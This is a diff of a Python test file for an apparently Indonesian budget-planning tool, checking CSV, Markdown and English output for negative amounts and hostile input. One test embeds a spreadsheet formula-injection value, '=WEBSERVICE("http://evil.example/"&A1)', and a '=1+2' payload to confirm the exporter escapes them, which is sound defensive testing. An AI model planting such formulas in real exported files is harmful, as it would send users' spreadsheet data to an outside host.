@@ -226,11 +226,11 @@ def test_csv_numbers_are_data_and_keep_their_sign(tmp_path):
     tree.write_text(hostile_tree(pagu="-0.50"), encoding="utf-8")
     res = run("tabel", tree, "--jenis", "renstra", "--format", "csv")
     rows = list(csv.reader(io.StringIO(res.output.lstrip("\ufeff"))))
-    total = next(r for r in rows if r and r[0] == "TOTAL")
-    assert total[-2:] == ["-0.5", "110000000"]  # a number, not "'-0.5"
-    sk = next(r for r in rows if r and "-0.5" in r)
-    assert sk[0] == "'=WEBSERVICE(\"http://evil.example/\"&A1)" and sk[-1] == "110000000"
-    assert "8.01.05.2.01.0004 =1+2 nama" in sk  # not evaluable: no prefix
+    total = next(r for r in rows if r and r[0] == "JUMLAH")
+    assert [total[7], total[9], total[11]] == ["-0.5", "110000000", "109999999.5"]  # numbers, not "'-0.5"
+    sk = next(r for r in rows if len(r) > 2 and r[2] == "8.01.05.2.01.0004")
+    assert sk[0] == "'=WEBSERVICE(\"http://evil.example/\"&A1)" and [sk[7], sk[9]] == ["-0.5", "110000000"]
+    assert sk[3] == "'=1+2 nama"  # the component's name in its own cell, not evaluable
 
 
 # -- 2. Markdown and HTML ----------------------------------------------------------------------------
@@ -586,9 +586,9 @@ def test_negative_pagu_keeps_its_sign_and_is_reported(tmp_path):
     col = tree.read_text(encoding="utf-8").splitlines()[line - 1].index("-0.50") + 1
     assert res.output.splitlines()[0] == f"{tree}:{line}:{col}: K016 peringatan [SK1] Pagu kotak SK1 tahun 2024 negatif: Rp -0,50"
     assert "Anggaran rencana aksi indikator \"@x\" kotak SK1 tahun 2024 negatif: Rp -5" in res.output
-    md = run("tabel", tree, "--jenis", "renstra", "--tahun", "2024").output
-    assert "| **-0,50** |" in md and "total 2024 Rp -0,50 (minus nol rupiah lima puluh sen)" in md
-    en = run("tabel", tree, "--jenis", "renstra", "--tahun", "2024", "--lang", "en").output
+    md = run("tabel", tree, "--jenis", "renja", "--tahun", "2024").output
+    assert "| **-0,50** |" in md and "Jumlah pagu indikatif tahun 2024: Rp -0,50 (minus nol rupiah lima puluh sen)." in md
+    en = run("tabel", tree, "--jenis", "renja", "--tahun", "2024", "--lang", "en").output
     assert "Rp -0,50 (minus 0.50 rupiah)" in en
     assert terbilang(Decimal("-0.50")) == "minus nol rupiah lima puluh sen"
     assert terbilang(-1500) == "minus seribu lima ratus rupiah" and in_words_en(Decimal("-1234.5")) == "minus 1,234.50 rupiah"
